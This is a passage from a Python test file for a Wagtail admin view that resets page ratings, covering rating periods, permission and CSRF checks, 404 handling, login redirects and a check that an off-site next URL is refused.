    # Old votes stay, in their period; the report counts the new period only.
    assert Feedback.objects.filter(page=page, period=1).count() == 2
    vote(page, "a", 5)
    assert stored_summary(page)["count"] == 1
    assert stored_summary(page) == recounted(page)
    (row,) = session_ratings(Feedback.objects.all())
    assert (row.count, row.total) == (1, 5)


def test_reset_goes_back_to_a_safe_next_url(login, users, pages):
    client = login(users.moderator)
    response = client.post(f"{reset_url(pages.step_up)}?next={REPORT_URL}")
    assert response["Location"] == REPORT_URL
    response = client.post(f"{reset_url(pages.step_up)}?next=https://evil.example/")
    assert response["Location"] == edit_url(pages.step_up)


def test_reset_is_refused_without_the_change_permission(login, users, pages):
    vote(pages.step_up, "a", 4)
    for user in (users.reader, users.outsider):
        client = login(user)
        assert client.get(reset_url(pages.step_up)).status_code == 403
        assert client.post(reset_url(pages.step_up)).status_code == 403
    assert stored_summary(pages.step_up)["period"] == 1
    assert stored_summary(pages.step_up)["count"] == 1


def test_reset_needs_the_csrf_token(users, pages):
    client = Client(enforce_csrf_checks=True)
    client.force_login(users.moderator)
    assert client.post(reset_url(pages.step_up)).status_code == 403
    assert not RatingSummary.objects.filter(page=pages.step_up, period=2).exists()


def test_reset_of_an_unknown_page_or_a_page_without_feedback_is_404(login, users, conference):
    client = login(users.moderator)
    missing = reverse("wagtail_pmolib_admin:reset_ratings", args=[999999])
    assert client.get(missing).status_code == 404
    assert client.post(reset_url(conference)).status_code == 404
    assert not RatingSummary.objects.filter(page=conference).exists()
    assert reset_url(conference) not in html(client.get(edit_url(conference)))


def test_reset_sends_anonymous_visitors_to_the_login_page(client, pages):
    response = client.post(reset_url(pages.step_up))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("wagtailadmin_login"))
